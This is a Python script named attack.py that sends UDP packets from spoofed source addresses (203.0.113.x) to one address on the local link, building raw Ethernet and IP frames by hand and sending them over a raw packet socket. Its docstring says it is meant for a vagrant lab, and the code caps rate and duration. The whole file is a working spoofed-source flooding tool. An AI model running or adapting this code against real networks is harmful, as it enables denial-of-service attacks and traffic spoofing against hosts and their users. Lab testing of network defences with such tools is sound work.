# SPDX-License-Identifier: GPL-2.0-or-later
"""`attack.py INTERFACE ADDRESS`: UDP from made-up sources to one address on the same link.

Bounded in time and rate; run it in the lab that vagrant makes, and nowhere else.
"""

import argparse
import json
import random
import socket
import struct
import subprocess
import time
from pathlib import Path

_MOST_PPS, _MOST_SECONDS = 20_000, 1_800
_TICK_SECONDS = 0.05
_SOURCES = "203.0.113."  # RFC 5737: nobody's


def frame(mac: bytes, own: bytes, source: str, destination: str) -> bytes:
    udp = struct.pack(">HHHH", random.randrange(1024, 65536), 9, 8 + 64, 0) + bytes(64)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    head = struct.pack(">BBHIBBH", 0x45, 0, 20 + len(udp), 1 << 16, 64, 17, 0) + addresses
    total = sum(struct.unpack(">10H", head))
    check = ~((total >> 16) + (total & 0xFFFF)) & 0xFFFF
    return mac + own + b"\x08\0" + head[:10] + struct.pack(">H", check) + head[12:] + udp


def neighbour(interface: str, address: str) -> bytes:
    """The link address of a host, once it was knocked at."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.sendto(b"", (address, 9))
    for _ in range(50):
        time.sleep(0.1)
        shown = subprocess.run(
            ["ip", "-j", "neigh", "show", address, "dev", interface],
            capture_output=True,
            check=True,
        ).stdout
        for found in json.loads(shown or "[]"):
            if "lladdr" in found:
                return bytes.fromhex(found["lladdr"].replace(":", ""))
    raise SystemExit(f"nobody answers for {address} on {interface}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("interface")
    parser.add_argument("address")
    parser.add_argument("--pps", type=int, default=1_000, help=f"at most {_MOST_PPS}")
    parser.add_argument("--seconds", type=int, default=60, help=f"at most {_MOST_SECONDS}")
    chosen = parser.parse_args()
    pps, seconds = min(chosen.pps, _MOST_PPS), min(chosen.seconds, _MOST_SECONDS)
    own = Path(f"/sys/class/net/{chosen.interface}/address").read_text().strip()
    mac = neighbour(chosen.interface, chosen.address)
    frames = [
        frame(mac, bytes.fromhex(own.replace(":", "")), f"{_SOURCES}{n}", chosen.address)
        for n in range(1, 255)
    ]
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((chosen.interface, 0))
        while (passed := time.monotonic() - began) < seconds:
            while sent < passed * pps:
                out.send(frames[sent % len(frames)])
                sent += 1
            time.sleep(_TICK_SECONDS)
    print(f"{sent:,} packets in {seconds} s")


if __name__ == "__main__":
    main()
